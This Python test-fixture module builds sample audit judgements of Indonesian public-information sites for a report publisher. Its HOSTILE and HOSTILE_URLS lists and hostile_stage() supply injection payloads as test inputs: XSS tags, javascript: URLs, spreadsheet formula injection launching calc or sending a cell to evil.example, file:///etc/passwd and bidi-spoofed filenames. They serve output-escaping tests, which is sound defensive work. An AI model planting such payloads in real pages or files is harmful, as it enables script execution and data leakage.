"""Judgements made by hand: small, large, hostile and empty ones, for every room of the reports."""

from __future__ import annotations

import hashlib
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

from auditor.model import (
    Alternative,
    Basis,
    Body,
    Bounds,
    Capture,
    Catalogue,
    Change,
    Criterion,
    Dataset,
    Dimension,
    Document,
    Evidence,
    Facts,
    Finding,
    Indicator,
    Item,
    Judgement,
    Part,
    Portal,
    Refusal,
    Resource,
    RunSummary,
    Score,
    Searched,
    Sensitivity,
    Site,
    SiteFacts,
    Status,
    Table,
    TableError,
    Text,
    TitleFacts,
    Verdict,
    Visit,
)
from reports.publish import publish

ZONE = ZoneInfo("Asia/Jakarta")
AT = datetime(2026, 11, 3, 1, 0, tzinfo=ZONE)
RUN = "20261103T010000"
CODE = "99.71"

INDICATORS = (
    Indicator("jenis-informasi", Text("Jenis informasi", "Kinds of information"), 40),
    Indicator("digitalisasi", Text("Digitalisasi", "Digitalisation"), 20),
    Indicator("kualitas-informasi", Text("Kualitas informasi", "Quality of information"), 10),
    Indicator("pelayanan-informasi", Text("Pelayanan informasi", "Information service"), 10),
    Indicator("komitmen-organisasi", Text("Komitmen organisasi", "Commitment"), 10),
    Indicator("sarana-prasarana", Text("Sarana dan prasarana", "Facilities"), 10),
)
BANDS = (
    ("Informatif", 90.0),
    ("Menuju Informatif", 80.0),
    ("Cukup Informatif", 60.0),
    ("Kurang Informatif", 40.0),
    ("Tidak Informatif", 0.0),
)

SENSITIVITY = Sensitivity(
    35.0,
    70.5,
    2_000,
    7,
    (
        Alternative("weights", 38.0, 68.25),
        Alternative("equal", 40.0, 65.0),
        Alternative("geometric", 35.0, 64.0),
        Alternative("without", 42.0, 70.5, "digitalisasi"),
    ),
)
_KURANG = "Kurang Informatif"
PARTS = (
    Part("unit", "Dinas Kesehatan", Bounds(40.0, 44.0, 50.0, 0.9), _KURANG, _KURANG, _KURANG, 5),
    Part("role", "ppid", Bounds(0.0, None, 100.0, 0.0), "Tidak Informatif", "Informatif", None, 3),
)

HOSTILE = (
    "<script>alert(document.domain)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+62 812=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Dokumen \u202efdp.exe\u202c akhir",
    "\u2067مستند الميزانية\u2069 RKA 2024",
    "\x00\x07\x1b[31mmerah\x1b[0m\x9b",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "</title></style></textarea><svg onload=alert(1)>",
    "&lt;b&gt; &amp;#x3c;script&#x3e;",
    "😀👩‍👩‍👧‍👦 Laporan 🇮🇩 कार्य 文書",
    "]]><!--<x>-->",
    "A" * 10_000,
    "kata " * 2_000,
    "100% %(tidak)s %s {kosong}",
    "\ud800 surrogat",
)
HOSTILE_URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://",
    "https:\\\\evil.example",
    "https://user:pass@evil.example/",
    'https://ppid.contoh.example/a?b="><script>alert(1)</script>',
    "https://ppid.contoh.example/'onmouseover='alert(1)",
    "https://ppid.contoh.example/" + "a" * 9_000,
    "http://[::1",
)


@dataclass(frozen=True)
class Cell:
    """One field of the matrix."""

    unit: str
    kind: str
    year: int
    status: Status
    url: str | None = None
    reason: str = ""


def criterion(number: int, indicator: str, level: Any = "core", verified: bool = True) -> Criterion:
    return Criterion(
        id=f"kriteria-{number}",
        indicator=indicator,
        level=level,
        weight=1.0,
        question=Text(f"Apakah hal {number} tersedia?", f"Is thing {number} available?"),
        met=Text(f"Hal {number} tersedia", f"Thing {number} is available"),
        unmet=Text(f"Hal {number} belum ditemukan", f"Thing {number} was not found"),
        why=Text("Warga berhak tahu.", "Citizens have a right to know."),
        how=Text("Dicari di PPID.", "Looked for on the PPID site."),
        limits=Text("Isi gambar tidak dibaca.", "Images are not read."),
        basis=(
            Basis("UU 14/2008 Pasal 9 ayat (2)", "https://peraturan.example/uu-14-2008", verified),
            Basis("PERKI 1/2021 Pasal 14", "", not verified),
        ),
        remedies={"default": Text(f"Unggah hal {number}.", f"Publish thing {number}.")},
        actor="PPID Utama",
        since="1",
        judge="document",
        freshness="F-DPA" if number % 3 == 0 else None,
    )


DIMENSIONS = tuple(
    Dimension(key, Text(name, english), Text(f"tentang {name}", f"about {english}"), "Giffinger 2007", verified=False)
    for key, name, english in (
        ("transparent-governance", "Pemerintahan yang transparan", "Transparent governance"),
        ("public-services", "Layanan publik dan sosial", "Public and social services"),
    )
)


def catalogue(criteria: Sequence[Criterion] | None = None) -> Catalogue:
    made = criteria or [
        *(criterion(n, INDICATORS[n % 6].id, verified=n % 2 == 0) for n in range(12)),
        criterion(12, "komitmen-organisasi", level="unobservable"),
    ]
    return Catalogue(
        version="c0ffee" + "0" * 58,
        indicators=INDICATORS,
        criteria=tuple(made),
        reasons={
            "found": Text("ada", "found"),
            "stale": Text("yang ada tahun {year}", "the newest is of {year}"),
            "image-only": Text("hanya gambar", "only an image"),
        },
        items={"available": 0.4, "current": 0.2, "series": 0.15, "open": 0.15, "searchable": 0.1},
        bands=BANDS,
        dimensions=DIMENSIONS,
        calendar={
            "F-DPA": {
                "month": 1,
                "day": 31,
                "offset": 0,
                "name": {"id": "DPA tahun berjalan", "en": "DPA of the present year"},
                "legal": {"id": "Disahkan setelah APBD.", "en": "Approved after the budget."},
                "basis": [{"article": "PP 12/2019 Pasal 128", "source": "ingatan", "verified": False}],
            },
            "F-RKPD": {"month": 8, "day": 1, "offset": 1, "covers": True},
        },
    )


def digest(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8", "replace")).hexdigest()


BOUNDS_OF = {
    Status.MET: (1.0, 1.0),
    Status.PARTLY: (0.4, 0.6),
    Status.UNMET: (0.0, 0.0),
    Status.UNKNOWN: (0.0, 1.0),
    Status.NOT_APPLICABLE: (0.0, 0.0),
}
REASON_OF = {
    Status.MET: "found-current",
    Status.PARTLY: "stale",
    Status.UNMET: "not-found",
    Status.UNKNOWN: "site-unreachable",
    Status.NOT_APPLICABLE: "not-applicable",
}


def finding(
    asked: Criterion,
    status: Status,
    *,
    subject: str = CODE,
    site: str | None = "ppid",
    unit: str | None = None,
    reason: str = "",
    gain: float = 0.0,
    text: str = "Yang terlihat di halaman Informasi Berkala.",
    quote: str = "Daftar Informasi Publik 2024",
    url: str = "https://ppid.contoh.example/berkala",
    body: str = "halaman",
    state: Any = "persisting",
) -> Finding:
    low, high = BOUNDS_OF[status]
    proof = Evidence(url, datetime(2026, 11, 2, 18, 5, tzinfo=UTC), digest(body), "ppid.warc.gz", quote)
    return Finding(
        id=digest(asked.id + subject)[:16],
        criterion=asked,
        verdict=Verdict(
            subject=subject,
            low=low,
            high=high,
            reason=reason or REASON_OF[status],
            site=site,
            unit=unit,
            evidence=() if status is Status.UNKNOWN else (proof,),
            items=(
                (Item("available", Status.MET, "found"), Item("current", Status.UNMET, "stale"))
                if status is Status.PARTLY
                else ()
            ),
            searched=(
                (Searched("ppid", "Informasi Berkala", 41, (("robots", 1), ("trap", 12)), True),)
                if status is Status.UNMET
                else ()
            ),
            applicable=status is not Status.NOT_APPLICABLE,
        ),
        message=Text(text, text),
        remedy=Text(f"Unggah {text}", f"Publish {text}"),
        gain=gain,
        since=date(2026, 11, 2),
        state=None if status is Status.MET else state,
    )


def site_facts(id_: str = "ppid", role: Any = "ppid", **more: Any) -> SiteFacts:
    visit = Visit(
        id_,
        "ok",
        exhausted=True,
        pages=41,
        refused=(
            Refusal("https://ppid.contoh.example/admin", "robots"),
            Refusal("https://lain.example/", "other-host"),
        ),
        delay_seconds=1.0,
    )
    return SiteFacts(
        Site(id_, role, f"https://{id_}.contoh.example/", f"{id_.upper()} Kota Contoh", unit="Diskominfo"),
        more.pop("visit", visit),
        **more,
    )


def document(number: int, title: str = "", url: str = "", **more: Any) -> Document:
    return Document(
        url=url or f"https://ppid.contoh.example/file/{number}.pdf",
        site="ppid",
        title=title or f"DPA Dinas Contoh {number} TA 2025",
        facts=more.pop("facts", TitleFacts("dpa", (2025,), None, "Dinas Contoh", 0.9)),
        found_on="https://ppid.contoh.example/berkala",
        digest=more.pop("digest", digest(f"dokumen {number}")),
        format="pdf",
        bytes=120_000,
        pages=4,
        readable=more.pop("readable", True),
        **more,
    )


def dataset(number: int, title: str = "", url: str = "", fresh: bool | None = True) -> Dataset:
    error = TableError(5, "jumlah", "abc", "number", Text("bukan bilangan: abc", "not a number: abc"), more=2)
    table = Table("penduduk", ("kelurahan", "jumlah"), 68, (error,), 3, "2024")
    return Dataset(
        id=f"dataset-{number}",
        title=title or f"Jumlah Penduduk {number}",
        site="data",
        url=url or f"https://data.contoh.example/dataset/{number}",
        platform="ckan",
        unit="Disdukcapil",
        licence="CC-BY-4.0",
        modified=date(2025, 3, 1),
        cadence="tahunan",
        resources=(
            Resource("r1", "penduduk.csv", f"https://data.contoh.example/{number}.csv", "CSV", "csv", table=table),
        ),
        newest_period="2024",
        fresh=fresh,
    )


def judgement(
    findings: Sequence[Finding],
    *,
    sites: Sequence[SiteFacts] | None = None,
    partial: tuple[str, ...] = (),
    run: str = RUN,
    at: datetime = AT,
    name: str = "Kota Contoh",
    known: Catalogue | None = None,
    sensitivity: Sensitivity | None = None,
    parts: tuple[Part, ...] = (),
) -> Judgement:
    return Judgement(
        run=run,
        facts=Facts(
            Body(CODE, name, "kota", "Asia/Jakarta"), at, tuple(sites if sites is not None else (site_facts(),))
        ),
        catalogue=(known or catalogue()).version,
        auditor="0.1.0",
        findings=tuple(findings),
        score=Score(
            Bounds(41.23456, 54.98765, 66.234567, 0.75),
            tuple((i.id, i.weight, Bounds(30 + n * 5, 50 + n * 5, 60 + n * 5, 0.7)) for n, i in enumerate(INDICATORS)),
            "Kurang Informatif",
            "Cukup Informatif",
            None,
        ),
        evidence_digest=digest("bukti"),
        captures=321,
        partial=partial,
        sensitivity=sensitivity,
        parts=parts,
    )


def series(nights: int, last: datetime = AT) -> tuple[RunSummary, ...]:
    """Nights one after the other, the last one at `last`."""
    made = []
    for n in range(nights):
        at = last - timedelta(days=nights - 1 - n)
        made.append(
            RunSummary(
                at.strftime("%Y%m%dT%H%M%S"),
                at,
                38.0 + n % 7,
                None if n == 0 else 50.0 + n % 7,
                70.0 - n % 5,
                0.7,
                None,
                "c0ffee" + "0" * 58,
                "0.1.0",
                digest(f"bukti {n}"),
            )
        )
    return tuple(made)


def ordinary() -> list[Finding]:
    """All statuses, several owners, unknowns of every kind."""
    known = catalogue().criteria
    return [
        finding(known[0], Status.UNMET, gain=2.4, text="Daftar Informasi Publik tahun 2026."),
        finding(known[1], Status.PARTLY, gain=1.25, site="www", text="DPA yang ada dari tahun 2024."),
        finding(known[2], Status.MET),
        finding(known[3], Status.UNKNOWN, gain=1.9, site="data", text="Portal data tidak menjawab."),
        finding(known[4], Status.UNKNOWN, gain=3.0, reason="auditor-budget", text="Batas halaman tercapai."),
        finding(known[5], Status.UNKNOWN, gain=0.04, reason="human-address-not-known", text="Alamat belum diketahui."),
        finding(known[6], Status.NOT_APPLICABLE),
        *(
            finding(known[7], Status.UNMET, subject=f"Dinas {n}", unit=f"Dinas {n}", gain=0.3, site=None, state="new")
            for n in range(9)
        ),
    ]


def cells(units: int = 9) -> list[Cell]:
    statuses = list(Status)
    return [
        Cell(f"Dinas {unit}", kind, year, statuses[(unit + year + len(kind)) % 5], "https://ppid.contoh.example/d.pdf")
        for unit in range(units)
        for kind in ("rka", "dpa", "renstra")
        for year in (2023, 2024, 2025)
    ]


HTML = "<!doctype html><title>PPID</title><h1>Informasi Berkala</h1><script>alert(1)</script>"


@dataclass(frozen=True)
class Stage:
    """A judgement with all that `publish` wants beside it."""

    judgement: Judgement
    catalogue: Catalogue = field(default_factory=catalogue)
    series: tuple[RunSummary, ...] = field(default_factory=lambda: series(9))
    changes: tuple[Change, ...] = ()
    matrix: tuple[Cell, ...] = ()
    payload: bytes = HTML.encode()
    media_type: str = "text/html; charset=utf-8"
    headers: tuple[tuple[str, str], ...] = (("Server", "nginx"), ("Set-Cookie", "rahasia=1"))
    sealed: frozenset[str] = frozenset()
    more: dict[str, Any] = field(default_factory=dict)

    def capture(self, wanted: str) -> tuple[Capture, bytes] | None:
        if wanted == digest("hilang"):
            return None
        return (
            Capture(
                url="https://ppid.contoh.example/berkala",
                site="ppid",
                at=datetime(2026, 11, 2, 18, 5, tzinfo=UTC),
                cause="ok",
                status=200,
                media_type=self.media_type,
                digest=wanted,
                size=len(self.payload),
                headers=self.headers,
                via="https://ppid.contoh.example/",
                anchor="Informasi Berkala",
            ),
            self.payload,
        )

    def publish(self, public: Path) -> Path:
        return self.publish_with(public)

    def publish_with(self, public: Path, **other: Any) -> Path:
        """As `publish`, with some of the arguments replaced."""
        arguments: dict[str, Any] = {
            "public": public,
            "series": self.series,
            "changes": self.changes,
            "matrix": self.matrix,
            "captures": self.capture,
            "sealed": self.sealed,
            "warc_member": lambda wanted: b"\x1f\x8b" + wanted.encode(),
            "generated_for": date(2026, 11, 3),
            **self.more,
            **other,
        }
        return publish(self.judgement, self.catalogue, **arguments)


def ordinary_stage(**more: Any) -> Stage:
    """The night that most tests look at."""
    findings = ordinary()
    sites = (
        site_facts(documents=(document(1), document(2), document(3, flaw="dead"))),
        site_facts("www", "website"),
        site_facts(
            "data",
            "portal",
            visit=Visit("data", "timeout"),
            datasets=(dataset(1), dataset(2, fresh=False), dataset(3, fresh=None)),
            portal=Portal("data", "ckan", "api", 5, False),
        ),
    )
    changes = (
        Change(findings[0], Status.MET, "city"),
        Change(findings[2], Status.PARTLY, "city"),
        Change(findings[3], Status.MET, "sight"),
    )
    return Stage(judgement(findings, sites=sites), changes=changes, matrix=tuple(cells()), **more)


def hostile_stage() -> Stage:
    """Every payload in every place that outside text can come from."""
    known = [criterion(n, INDICATORS[n % 6].id) for n in range(len(HOSTILE))]
    findings = [
        finding(
            known[n],
            list(Status)[n % 5],
            subject=text,
            unit=text if n % 2 else None,
            gain=0.5,
            text=text,
            quote=text,
            url=HOSTILE_URLS[n % len(HOSTILE_URLS)],
            body=f"halaman {n}",
        )
        for n, text in enumerate(HOSTILE)
    ]
    documents = tuple(
        document(n, text, HOSTILE_URLS[n % len(HOSTILE_URLS)], facts=TitleFacts("dpa", (2025,), None, text))
        for n, text in enumerate(HOSTILE)
    )
    datasets = tuple(dataset(n, text, HOSTILE_URLS[n % len(HOSTILE_URLS)]) for n, text in enumerate(HOSTILE))
    matrix = tuple(
        Cell(text, "dpa", 2025, list(Status)[n % 5], HOSTILE_URLS[n % len(HOSTILE_URLS)])
        for n, text in enumerate(HOSTILE)
    )
    sites = (
        site_facts(documents=documents),
        site_facts("data", "portal", datasets=datasets, portal=Portal("data", "ckan", "api")),
    )
    return Stage(
        judgement(findings, sites=sites, name="Kota </title><script>alert(1)</script>"),
        catalogue=catalogue(known),
        changes=tuple(Change(f, Status.MET, "city") for f in findings),
        matrix=matrix,
        payload="\n".join(HOSTILE).encode("utf-8", "replace"),
        headers=tuple(("X-Uji", text) for text in HOSTILE),
    )
